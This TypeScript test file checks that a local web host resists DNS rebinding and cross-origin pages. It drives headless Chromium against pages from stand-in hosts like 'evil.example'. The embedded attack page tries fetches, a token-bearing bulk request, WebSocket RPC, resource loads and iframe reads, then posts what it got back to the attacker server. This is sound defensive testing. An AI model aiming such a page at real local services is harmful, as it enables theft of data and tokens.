// SPDX-License-Identifier: GPL-2.0-only
/**
 * Foreign pages in a real Chromium against the web host: a name that now resolves to this machine (DNS rebinding), and a page of
 * another origin. Each tries what a page can try and reports to its own server; none may get a byte of ours.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { tokenFromFragment } from '../../main/contract/client.ts';
import { startWebHost, type WebHost } from '../../main/headless/server.ts';
import { makeServices, pathsOf, type Services } from '../../main/services/index.ts';
import { makePage } from '../support/engine/lab.ts';
import { describeWith, findProgram } from '../support/tools.ts';

type Report = Readonly<Record<string, string>>;

/** Tries everything, then reports what each try got: 'nothing', or what it was. */
const attack = (
  host: WebHost,
  token: string,
): string => `<!doctype html><body><script type="module">
const got = {};
const attempt = async (name, what) => {
  try { got[name] = await Promise.race([what(), new Promise((done) => setTimeout(() => done('nothing'), 3000))]); }
  catch { got[name] = 'nothing'; }
};
const read = (url, options) => async () => {
  const response = await fetch(url, options);
  const text = await response.text();
  return response.type === 'opaque' || /^This host is reached by its own address only/.test(text) ? 'nothing' : text.slice(0, 80);
};
const element = (tag, url) => () => new Promise((done) => {
  const made = document.createElement(tag);
  made.onload = () => done('loaded');
  made.onerror = () => done('nothing');
  if (tag === 'link') { made.rel = 'stylesheet'; made.href = url; } else made.src = url;
  document.body.append(made);
});
const socket = (url) => () => new Promise((done) => {
  const made = new WebSocket(url);
  made.onopen = () => made.send(JSON.stringify({ v: 1, token: '${token}' }));
  made.onmessage = (event) => done(String(event.data));
  made.onclose = () => done('nothing');
});
const ours = '${host.origin}';
const rebound = 'http://rebind.example:${String(host.port)}';
for (const [name, base] of [['ours', ours], ['rebound', rebound]]) {
  await attempt(name + ' page', read(base + '/'));
  await attempt(name + ' page, no-cors', read(base + '/', { mode: 'no-cors' }));
  await attempt(name + ' bulk', read(base + '/bulk/runs/00000000-aa/requests', { headers: { authorization: 'Bearer ${token}' } }));
  await attempt(name + ' script', element('script', base + '/assets/app-1a2b.js'));
  await attempt(name + ' style', element('link', base + '/assets/app-1a2b.js'));
  await attempt(name + ' image', element('img', base + '/index.html'));
  await attempt(name + ' socket', socket(base.replace('http', 'ws') + '/rpc'));
}
await attempt('frame', () => new Promise((done) => {
  const frame = document.createElement('iframe');
  frame.src = ours + '/';
  frame.onload = () => { try { done(frame.contentDocument?.title ?? 'nothing'); } catch { done('nothing'); } };
  document.body.append(frame);
}));
await fetch('/report', { method: 'POST', body: JSON.stringify(got) });
</script>`;

/** A server of a foreign page, which hears what the page got. */
async function startAttacker(
  page: () => string,
): Promise<{ server: Server; port: number; report: Promise<Report> }> {
  let tell: (report: Report) => void = () => undefined;
  const report = new Promise<Report>((resolve) => {
    tell = resolve;
  });
  const server = createServer((request, response) => {
    if (request.method !== 'POST') {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(page());
      return;
    }
    let text = '';
    request.on('data', (chunk) => (text += String(chunk)));
    request.on('end', () => {
      response.end();
      tell(JSON.parse(text) as Report);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as AddressInfo).port, report };
}

describeWith(['chromium'], 'foreign pages in Chromium', () => {
  const folder = mkdtempSync(join(tmpdir(), 'diolab-rebinding-'));
  let services: Services;
  let host: WebHost;
  const browsers: ChildProcess[] = [];

  beforeAll(async () => {
    services = await makeServices({
      face: 'browser',
      version: '0.0.0',
      paths: pathsOf({ DIOLAB_DATA: join(folder, 'data') }),
      engineEntryPath: join(folder, 'no-engine.js'), // nothing here needs it
    });
    const pageFolder = makePage(folder);
    host = await startWebHost({
      services,
      version: '0.0.0',
      pageFolder,
      port: 0,
      log: () => undefined,
    });
  });
  afterAll(async () => {
    for (const browser of browsers) {
      if (browser.pid !== undefined) process.kill(-browser.pid, 'SIGKILL');
    }
    await host.close();
    await services.close();
    rmSync(folder, { recursive: true, force: true, maxRetries: 10, retryDelay: 200 });
  });

  it.each(['rebind.example', 'evil.example'])(
    'a page of %s gets nothing',
    async (name) => {
      const token = tokenFromFragment(new URL(host.newLink()).hash) ?? '';
      const { server, port, report } = await startAttacker(() => attack(host, token));
      const browser = spawn(
      findProgram('chromium') ?? '',
      [
        '--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking',
        '--disable-component-update', '--disable-dev-shm-usage', '--remote-debugging-port=0',
        `--user-data-dir=${join(folder, name)}`,
        `--host-resolver-rules=MAP ${name} 127.0.0.1, MAP rebind.example 127.0.0.1`,
        `http://${name}:${String(port)}/`,
      ],
      { stdio: 'ignore', detached: true },
    ); // prettier-ignore
      browsers.push(browser);
      const got = await report;
      server.close();
      expect(Object.keys(got).length).toBe(15);
      for (const [what, result] of Object.entries(got)) expect(result, what).toBe('nothing');
    },
    120_000,
  );

  it('the same tries from our own origin do get in: the test can tell the difference', async () => {
    const response = await fetch(`${host.origin}/`);
    expect(await response.text()).toContain('<title>lab</title>');
  });
});
